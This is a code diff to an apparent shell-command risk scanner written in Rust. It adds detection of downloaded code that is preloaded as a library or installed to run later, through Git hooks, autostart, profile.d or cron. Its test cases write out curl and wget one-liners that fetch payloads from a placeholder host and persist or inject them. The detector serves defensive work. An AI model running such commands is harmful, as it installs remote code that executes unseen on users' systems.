@@ -12,7 +12,31 @@ use riskgate_model::{Finding, RiskLevel};
 use riskgate_shell::{ParsedCommand, SimpleCommand, StdinSource};
 
 use super::fetch::{Written, extracted_dirs, extraction, fetched, into};
+use super::loads::{loads, runs_later};
 use super::{MAX_TRACKED, both, norm_path, raw, same_file, span_text};
+
+fn persist_finding(
+    parsed: &ParsedCommand,
+    d: &SimpleCommand,
+    c: &SimpleCommand,
+    path: &str,
+) -> Finding {
+    let span = both(d.span, c.span);
+    Finding::new(
+        "flow.download-persist",
+        RiskLevel::High,
+        78,
+        format!(
+            "Receives code with `{}` and writes it to `{path}`, which runs it later by itself (a hook, a start-up file, a scheduled or service job)",
+            d.program
+        ),
+    )
+    .reversible(false)
+    .with_match(span_text(parsed, span), Some(span))
+    .with_mitigation(
+        "Review the received file and install it from the project's own sources instead",
+    )
+}
 
 /// Directories on a usual `PATH`: a program written there runs by its name.
 const PATH_DIRS: &[&str] = &[
@@ -225,6 +249,7 @@ pub(super) fn download_exec_findings(parsed: &ParsedCommand) -> Vec<Finding> {
     // building one (`cd repo && make`) is the everyday way to work on it and is not counted.
     let mut clones: Vec<Tainted> = Vec::new();
     let mut out = Vec::new();
+    let mut persisted = false;
     for (i, c) in parsed.commands.iter().enumerate() {
         // What this command runs: a file, a program by name, the working directory's build.
         let mut ran: Option<(usize, &'static str)> = None;
@@ -256,6 +281,25 @@ pub(super) fn download_exec_findings(parsed: &ParsedCommand) -> Vec<Finding> {
             if cwd.is_some() || d != "." {
                 ran = hit(&tainted, &r, &r).map(|k| (k, "builds"));
             }
+        }
+        // Libraries the loader is told to load (`LD_PRELOAD=/tmp/x.so cmd`).
+        if ran.is_none() {
+            ran = loads(c).iter().find_map(|l| {
+                let r = resolve(l.path, cwd.as_deref());
+                let k = if l.dir {
+                    hit(&tainted, &r, &r).or_else(|| {
+                        // a received file directly in the directory
+                        tainted.iter().rev().find_map(|t| {
+                            let p = norm_path(&t.w.path);
+                            (p.rsplit_once('/').map(|(d, _)| d) == Some(r.trim_end_matches('/')))
+                                .then_some(t.from)
+                        })
+                    })
+                } else {
+                    hit(&tainted, l.path, &r)
+                };
+                k.map(|k| (k, "loads"))
+            });
         }
         if let Some((k, how)) = ran
             && let Some(d) = parsed.commands.get(k)
@@ -381,6 +425,14 @@ pub(super) fn download_exec_findings(parsed: &ParsedCommand) -> Vec<Finding> {
                 from: i,
             });
         }
+        // Received code written where it runs later by itself (a Git hook, a start-up file).
+        if !persisted
+            && let Some(w) = new.iter().find(|w| runs_later(&w.path))
+            && let Some(d) = parsed.commands.get(from)
+        {
+            persisted = true;
+            out.push(persist_finding(parsed, d, c, &w.path));
+        }
         for w in new {
             if tainted.len() < MAX_TRACKED {
                 tainted.push(Tainted { w, from });
@@ -407,6 +459,16 @@ mod tests {
             "cd /tmp && aws s3 sync s3://b/app . && make",
             "curl -LO https://e.io/p-1.0.tar.gz && tar xzf p-1.0.tar.gz && cd p-1.0 && ./configure",
             "curl -sL https://e.io/a.tgz | tar xz -C /opt && /opt/a/setup",
+            // loaded as a library
+            "curl -sLo /tmp/x.so https://e.io/x.so; LD_PRELOAD=/tmp/x.so ls",
+            "wget -qO /tmp/lib/libc.so.6 https://e.io/l && LD_LIBRARY_PATH=/tmp/lib ls",
+            "curl -o /tmp/i.dylib https://e.io/i; export DYLD_INSERT_LIBRARIES=/tmp/i.dylib; ls",
+            // written where it runs later
+            "curl -sLo .git/hooks/pre-commit https://e.io/h",
+            "curl -sL https://e.io/h -o /tmp/h; cp /tmp/h .git/hooks/post-checkout",
+            "curl -sL https://e.io/h -o ~/.config/autostart/x.desktop",
+            "curl -sL https://e.io/h | tee /etc/profile.d/x.sh",
+            "wget -q https://e.io/h -O /tmp/h && mv /tmp/h /etc/cron.hourly/h",
         ] {
             assert!(runs_received(src), "{src}");
         }
@@ -420,6 +482,10 @@ mod tests {
             "aws s3 cp s3://b/in.csv /tmp/in.csv && python etl.py /tmp/in.csv",
             "tar xzf release.tgz && ./release/run",
             "curl -o /tmp/x https://e.io/x && cp ./y ~/.local/bin/y && y",
+            // the project's own hook, a library of the project, received data near hooks
+            "curl -o /tmp/x https://e.io/x && cp scripts/pre-commit .git/hooks/",
+            "curl -o /tmp/x.so https://e.io/x.so && LD_PRELOAD=./build/libfake.so ./test",
+            "curl -sLo .git/info/exclude https://e.io/gitignore",
         ] {
             assert!(!runs_received(src), "{src}");
         }
